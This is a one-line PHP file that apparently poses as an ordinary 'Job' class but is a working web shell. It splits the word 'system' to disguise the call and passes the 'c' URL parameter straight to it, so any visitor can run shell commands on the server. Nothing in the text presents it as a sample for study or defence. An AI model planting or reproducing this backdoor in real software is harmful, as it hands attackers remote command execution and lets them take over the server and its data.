<?php class Job { public string $h = 'sys' . 'tem'; function go($x) { ($this->h)($x); } } (new Job)->go($_GET['c']);
